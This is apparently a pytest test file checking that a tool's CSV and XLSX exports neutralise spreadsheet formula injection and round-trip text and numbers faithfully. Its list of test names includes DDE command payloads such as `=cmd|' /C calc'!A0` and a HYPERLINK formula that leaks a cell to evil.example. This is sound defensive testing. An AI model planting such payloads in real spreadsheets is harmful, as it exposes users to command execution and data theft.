"""Exports for spreadsheets: text that would be a formula stays text, numbers stay numbers, and all of it comes back."""

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from defusedxml import ElementTree
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from tests.river import command, table, take_in, take_in_text

from groundswell.core.tables.guard import guarded, unguarded
from groundswell.engine.home import Home
from groundswell.reads.sheets import DoesNotFit, plain, save, write_csv

DAY = "2026-09-30"
MARKS = "=+-@＝＋－＠'"
NASTY = [
    *(f"{mark}1+1" for mark in MARKS),
    *(f"{lead}{mark}cmd|'/c calc'!A0" for lead in ('"', ";", "|", "“", "\u200b", "\ufeff") for mark in "=@'＝"),
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0",
    "+49 30 1234", "-12.50", "-", "--", "'", "''", "'''", "'=1", "''=1", "'tis", "'90s Records", "O'Neil", "'\"=1", "=", "+",
    'a "quoted" firm', 'ends in "', '"', '""', '"=1"', "a,b", "a;b", "a\tb", "a|b", "a\nb", "a\r\nb", "a\rb", "=1\n=2", "a\n=2",
    "a,=1", "a\";=1", ",=1", "NULL", "N/A", "#N/A", "#REF!", "0012", "1E5", "TRUE", "1/2", "2026-01-31", "3.5", "<b>&amp;", "]]>",
    "_x0041_", "_x000D_", "bell\x07", "esc\x1b[31m", "ﬁ", "😀", "\u202ereversed", "١٢", "Müller", "Ａ＝", "a" * 5000,
]  # fmt: skip
"""Names as a partner may write them. None has outer spaces, which take-in takes off, and all are in NFC."""
MAPPING = """[source]
name = "again"

[[file]]

[[file.row]]
table = "organisations"
external_id = "external_id"
name = "name"
is_partner = "is_partner"
is_customer = "is_customer"
industry = "industry"
tags = "tags"
"""


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.fixture
def known(home: Home) -> Home:
    """An instance that knows an organisation of each nasty name, whose id, industry and tag are the same text."""
    rows = [
        {"external_id": plain, "name": plain, "is_partner": "true", "is_customer": "false", "industry": plain,
         "tags": plain.replace(";", ",")}
        for plain in NASTY
    ]  # fmt: skip
    # Every cell is written with a guard of its own, so that none of them loses an apostrophe that it begins with.
    lines = [",".join(rows[0]), *(",".join(quoted(guarded(cell)) for cell in row.values()) for row in rows)]
    load = take_in_text(home, "names.csv", "\n".join(lines), "2026-09-01", mapping=mapping(home))
    assert (load.rows_in, load.quarantined) == (len(NASTY), 0)
    return home


def mapping(home: Home) -> Path:
    path = home.path.parent / "again.toml"
    path.write_text(MAPPING, "utf-8")
    return path


def texts(home: Home) -> dict[str, tuple[str, str, str]]:
    return {
        row["external_id"]: (row["name"], row["industry"], row["tags"]) for row in table(home, "organisations", DAY)
    }


def exported(home: Home, form: str) -> Path:
    path = home.path.parent / f"organisations.{form}"
    done = command(home.path, "tables", "organisations", "--as-of", DAY, "--format", form, "--out", str(path))
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    return path


# ------------------------------------------------------------------------------------------------------ round trips


def test_there_are_enough_nasty_names() -> None:
    assert len(set(NASTY)) == len(NASTY) >= 60


@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from(MARKS + "\t\r\n\x00 \"';,"))))
def test_what_is_guarded_comes_back(text: str) -> None:
    cell = guarded(text)
    assert cell in (text, f"'{text}")
    assert unguarded(cell) == text
    bare = re.sub(r"^[\s\x00-\x1f\x7f-\x9f]+", "", cell)
    assert not bare.startswith(tuple("=+-@＝＋－＠"))
    assert not cell.startswith(("\t", "\r", "\n", "\x00"))


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)))
def test_any_text_comes_back_from_a_csv(rows: list[list[str]]) -> None:
    out = io.StringIO(newline="")
    write_csv(out, ["a", "b"], rows)
    found = csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True)
    assert [[unguarded(cell) for cell in row] for row in found] == [["a", "b"], *rows]


def test_an_exported_csv_is_taken_in_as_it_was(known: Home) -> None:
    before = texts(known)
    assert set(before) == set(NASTY)
    assert all(name == industry == key for key, (name, industry, _) in before.items())
    load = take_in(known, exported(known, "csv"), "2026-09-02", mapping=mapping(known))
    assert (load.loaded, load.unchanged, load.quarantined) == (0, len(NASTY), 0)
    assert texts(known) == before


def test_an_exported_workbook_holds_the_texts_as_they_are(known: Home) -> None:
    sheet = load_workbook(exported(known, "xlsx")).active
    head, *rows = [list(row) for row in sheet.iter_rows()]
    place = {cell.value: i for i, cell in enumerate(head)}
    names = [row[place["name"]] for row in rows]
    assert {unescape(cell.value) for cell in names} == set(NASTY)
    assert {cell.data_type for cell in names} == {"s"}


def test_the_load_says_how_many_cells_had_a_guard(home: Home) -> None:
    text = "partner_id,partner_name,country,remark\nP1,'=1+1,DE,'=not used\n'-2,''tis,DE,\nP3,'tis and O'Neil,DE,\n"
    load = take_in_text(home, "partners.csv", text, "2026-09-01")
    names = {row["external_id"]: row["name"] for row in table(home, "organisations", DAY)}
    assert names == {"P1": "=1+1", "-2": "'tis", "P3": "'tis and O'Neil"}
    assert "3 cells began with an apostrophe that guards text in a CSV; it was taken off" in load.report["notes"]
    plain_ = take_in_text(
        home, "partners.csv", "partner_id,partner_name,country\nP3,'tis and O'Neil,DE\n", "2026-09-02"
    )
    assert not any("apostrophe" in note for note in plain_.report["notes"])


def test_ids_in_a_lookup_and_a_value_list_lose_their_guard_too(home: Home) -> None:
    files = home.path.parent / "files"
    files.mkdir()
    (files / "crosswalk.csv").write_text("Partner,'=Id\n'=A,'-7\n", "utf-8")
    (files / "map.toml").write_text(
        '[source]\nname = "x"\n[[file]]\n[[file.row]]\ntable = "organisations"\n'
        'external_id = { lookup = "crosswalk.csv", on = "Partner", take = "=Id" }\nname = "Partner"\n'
        'is_partner = { header = "+kind", values = { "-p" = "true" } }\nis_customer = { const = false }\n',
        "utf-8",
    )
    load = take_in_text(home, "list.csv", "Partner,'+kind\n'=A,'-p\n", "2026-09-01", mapping=files / "map.toml")
    assert (load.loaded, load.quarantined) == (1, 0)
    (row,) = table(home, "organisations", DAY)
    assert (row["external_id"], row["name"], row["is_partner"]) == ("-7", "=A", "true")


# ------------------------------------------------------------------------------------------------- cells by their type

TYPED = [
    "text", Decimal("-12.50"), Decimal("0.0001"), -7, True, dt.date(2026, 1, 31),
    dt.datetime(2026, 1, 31, 8, 30, tzinfo=dt.UTC), None, ["a", "=b"], Decimal("12345678901234567890.12345678"),
]  # fmt: skip


def test_numbers_days_and_yes_or_no_are_written_as_they_are() -> None:
    out = io.StringIO()
    write_csv(out, ["-head"], [[cell] for cell in [*TYPED, ["=a", "b"]]])
    assert out.getvalue().split("\n") == [
        "'-head", "text", "-12.50", "0.0001", "-7", "true", "2026-01-31", "2026-01-31T08:30:00Z", '""', "a;=b",
        "12345678901234567890.12345678", "'=a;b", "",
    ]  # fmt: skip


def test_a_workbook_has_numbers_where_a_double_holds_them(tmp_path: Path) -> None:
    exact, long = Decimal("123456789012.345"), Decimal("1234567890123.456")
    more = [exact, long, 999_999_999_999_999, 1_000_000_000_000_001, dt.date(1899, 12, 31), Decimal("120000.0000")]
    save(tmp_path / "typed.xlsx", "xlsx", ["cell"], [[cell] for cell in [*TYPED, *more]])
    sheet = load_workbook(tmp_path / "typed.xlsx").active
    found = [(cell.data_type, cell.value) for (cell,) in sheet.iter_rows(min_row=2)]
    day = dt.datetime(2026, 1, 31)  # noqa: DTZ001 - workbooks know no zone
    assert found == [
        ("s", "text"), ("n", -12.5), ("n", 0.0001), ("n", -7), ("b", True), ("d", day),
        ("s", "2026-01-31T08:30:00Z"), ("n", None), ("s", "a;=b"), ("s", "12345678901234567890.12345678"),
        ("n", 123456789012.345), ("s", "1234567890123.456"), ("n", 999_999_999_999_999), ("s", "1000000000000001"),
        ("s", "1899-12-31"), ("n", 120000),
    ]  # fmt: skip


@given(st.decimals(allow_nan=False, allow_infinity=False, places=4, min_value=-(10**15), max_value=10**15))
def test_a_number_of_a_workbook_is_the_number(tmp_path_factory: pytest.TempPathFactory, number: Decimal) -> None:
    path = tmp_path_factory.getbasetemp() / "number.xlsx"
    save(path, "xlsx", ["cell"], [[number]])
    value = load_workbook(path).active["A2"].value
    assert Decimal(str(value)) == number


def test_a_table_that_a_workbook_cannot_hold_leaves_the_file_that_was_there(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    path.write_text("what was there", "utf-8")
    with pytest.raises(DoesNotFit, match=r"row 2, name: 32,768 characters, .* write it as CSV"):
        save(path, "xlsx", ["name"], [["x" * 32_768]])
    assert [entry.name for entry in tmp_path.iterdir()] == ["out.xlsx"]
    assert path.read_text("utf-8") == "what was there"
    save(tmp_path / "out.csv", "csv", ["name"], [["x" * 32_768]])


def test_unknown_is_the_empty_text() -> None:
    assert plain(None) == ""


# ------------------------------------------------------------------------------------------------------- LibreOffice

_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"


def opened(path: Path, folder: Path) -> list[tuple[str, str, str]]:
    """(type, value, formula) of every cell of a file's first column, as LibreOffice opens it."""
    words = ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless"]
    words += ["--infilter=Text - txt - csv (StarCalc):44,34,76"] if path.suffix == ".csv" else []
    done = subprocess.run(
        [*words, "--convert-to", "fods", "--outdir", str(folder / path.suffix), str(path)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    file = folder / path.suffix / f"{path.stem}.fods"
    assert file.is_file(), done.stderr
    found = []
    for row in ElementTree.parse(file).getroot().iter(f"{{{_TABLE}}}table-row"):
        cell = next(iter(row))
        kind = cell.get(f"{{{_OFFICE}}}value-type", "")
        text = "\n".join("".join(part.itertext()) for part in cell)
        found.append((kind, cell.get(f"{{{_OFFICE}}}value", text), cell.get(f"{{{_TABLE}}}formula", "")))
    return found


@pytest.mark.skipif(not shutil.which("soffice"), reason="soffice is absent")
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_libreoffice_opens_text_as_text_and_numbers_as_numbers(tmp_path: Path, form: str) -> None:
    # A cell of several lines, and spaces inside one, are not told apart in what LibreOffice writes.
    names = [name for name in NASTY if guarded(name) != name and not re.search(r"[\n\r\t\x00-\x1f]", name)]
    amounts = [Decimal("-12.50"), Decimal("7.0000"), -3]
    path = tmp_path / f"out.{form}"
    save(path, form, ["cell"], [[cell] for cell in [*names, *amounts]])
    rows = opened(path, tmp_path)[1:]
    assert [formula for _, _, formula in rows] == [""] * len(rows)
    said = [(kind, unguarded(text) if form == "csv" else text) for kind, text, _ in rows]
    assert said[: len(names)] == [("string", name) for name in names]
    assert said[len(names) :][:3] == [("float", "-12.5"), ("float", "7"), ("float", "-3")]


@pytest.mark.skipif(not shutil.which("soffice"), reason="soffice is absent")
def test_libreoffice_would_run_them_without_the_guard(tmp_path: Path) -> None:
    (tmp_path / "bare.csv").write_text("cell\n=1+1\n", "utf-8")
    assert opened(tmp_path / "bare.csv", tmp_path)[1] == ("float", "2", "of:=1+1")
